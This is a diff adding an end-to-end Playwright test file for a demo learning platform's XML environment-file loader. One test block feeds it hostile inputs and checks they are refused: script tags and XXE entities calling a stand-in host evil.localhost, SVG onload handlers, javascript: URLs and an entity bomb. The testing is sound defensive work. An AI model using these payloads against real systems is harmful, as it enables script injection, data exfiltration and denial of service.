@@ -1,0 +1,139 @@
+import { demoAccounts, startPlatform, type Platform } from '@lectern/env';
+import type { Browser, BrowserContext, Page } from 'playwright-core';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { launchBrowser } from '../src/browser.ts';
+import { arrive, type Learner } from '../src/learner.ts';
+
+/* The environment file of the demo platform, and row 33 of the security cases. */
+
+let platform: Platform;
+let browser: Browser;
+let context: BrowserContext;
+let learner: Learner;
+let page: Page;
+/** Every address that the page and its frame have asked for. */
+let requested: string[];
+
+beforeAll(async () => {
+  [platform, browser] = await Promise.all([startPlatform(), launchBrowser()]);
+});
+afterAll(async () => {
+  await browser?.close();
+  await platform?.close();
+});
+beforeEach(async () => {
+  context = await browser.newContext();
+  learner = await arrive(context, platform);
+  page = learner.page;
+  requested = [];
+  page.on('request', (request) => requested.push(request.url()));
+});
+afterEach(() => context.close());
+
+const stored = () => page.evaluate(() => localStorage.getItem('prosEnvironment'));
+const settingsOfDemo = {
+  '@name': 'demo',
+  'support/page': 'https://lectern.example/hilfe',
+  'support/mail': 'mailto:hilfe@lectern.example',
+};
+const isOfEnvironment = (address: string) =>
+  /\/atma\/(v1\/file\/accessBasic|public\/)/.test(address);
+
+/** Signs in and waits until the page has dealt with the environment file. */
+async function signInWith(xml?: string): Promise<void> {
+  if (xml !== undefined) {
+    await page.route('**/atma/public/**', (route) =>
+      route.fulfill({ contentType: 'application/xml', body: xml }),
+    );
+  }
+  const downloaded = page.waitForResponse((response) => response.url().includes('/atma/public/'));
+  await learner.signIn(demoAccounts[0]);
+  await downloaded;
+}
+
+test('is fetched after the content and kept, for those who are signed in', async () => {
+  await page.goto(platform.shell);
+  await page.getByRole('button', { name: 'Anmelden' }).waitFor();
+  await signInWith();
+  await expect
+    .poll(async () => JSON.parse((await stored()) ?? 'null') as unknown)
+    .toEqual(settingsOfDemo);
+  const ofContent = requested.findIndex((address) => address.startsWith(platform.content));
+  expect(ofContent).toBeGreaterThanOrEqual(0);
+  expect(requested.findIndex(isOfEnvironment)).toBeGreaterThan(ofContent);
+  expect(requested.filter(isOfEnvironment)).toHaveLength(2);
+});
+
+test('comes again beside the content of a page that is loaded anew', async () => {
+  await signInWith();
+  await page.evaluate(() => localStorage.removeItem('prosEnvironment'));
+  await page.reload();
+  await expect.poll(stored).not.toBeNull();
+});
+
+test('is not asked for where none is configured', async () => {
+  await page.route(`${platform.shell}/assets/config/config.json*`, async (route) => {
+    const { environment: _, ...rest } = (await (await route.fetch()).json()) as {
+      environment: object;
+    };
+    await route.fulfill({ json: rest });
+  });
+  await learner.signIn(demoAccounts[0]);
+  await learner.content.getByText('Hallo Mia').waitFor();
+  await page.waitForLoadState('networkidle');
+  expect(requested.filter(isOfEnvironment)).toEqual([]);
+  expect(await stored()).toBeNull();
+});
+
+test('reads what a file of settings may have', async () => {
+  await signInWith(
+    `<?xml version="1.0"?><e><!-- a remark --><servers><s id="1">https://a.example</s><s>b</s></servers>
+     <constructor>c</constructor><text><![CDATA[1 < 2]]></text><time> 10:30 </time><none/></e>`,
+  );
+  await expect
+    .poll(async () => JSON.parse((await stored()) ?? 'null') as unknown)
+    .toEqual({
+      'servers/s[1]': 'https://a.example',
+      'servers/s[1]@id': '1',
+      'servers/s[2]': 'b',
+      constructor: 'c',
+      text: '1 < 2',
+      time: '10:30',
+      none: '',
+    });
+});
+
+describe('row 33: a file is refused, and no request made, that has', () => {
+  const bomb = Array.from(
+    { length: 9 },
+    (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`,
+  ).join('');
+
+  test.each([
+    ['a script', '<e><script>fetch("http://evil.localhost/")</script></e>'],
+    ['a script of capitals', '<e><SCRIPT src="http://evil.localhost/s.js"/></e>'],
+    ['a script of a page', '<e><s xmlns="http://www.w3.org/1999/xhtml" onclick="alert(1)"/></e>'],
+    ['a picture', '<e><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/></e>'],
+    ['an external entity', '<!DOCTYPE e [<!ENTITY x SYSTEM "http://evil.localhost/x">]><e>&x;</e>'],
+    ['an external document type', '<!DOCTYPE e SYSTEM "http://evil.localhost/e.dtd"><e/>'],
+    ['an entity bomb', `<!DOCTYPE e [<!ENTITY e0 "lol">${bomb}]><e>&e9;</e>`],
+    ['a style sheet', '<?xml-stylesheet href="http://evil.localhost/s.xsl"?><e/>'],
+    ['an address that runs', '<e><page>javascript:alert(1)</page></e>'],
+    ['an address that runs, disguised', '<e><page> java&#10;script:alert(1)</page></e>'],
+    ['an address that runs, as an attribute', '<e page="JavaScript:alert(1)"/>'],
+    ['an address that is its own page', '<e><page>data:text/html,x</page></e>'],
+    ['no end', '<e><page>'],
+    ['no XML', '{"support":"x"}'],
+    ['more depth than anything needs', '<a>'.repeat(200) + '</a>'.repeat(200)],
+    ['more elements than anything needs', `<a>${'<b/>'.repeat(1_001)}</a>`],
+  ])('%s', async (_what, xml) => {
+    await page.addInitScript(() => localStorage.setItem('prosEnvironment', 'as before'));
+    const refused = page.waitForEvent('console', (message) =>
+      message.text().startsWith('Could not load the environment file.'),
+    );
+    await signInWith(xml);
+    expect((await refused).text()).toContain('EnvironmentError');
+    expect(await stored()).toBe('as before');
+    expect(requested.filter((address) => address.includes('evil'))).toEqual([]);
+  });
+});
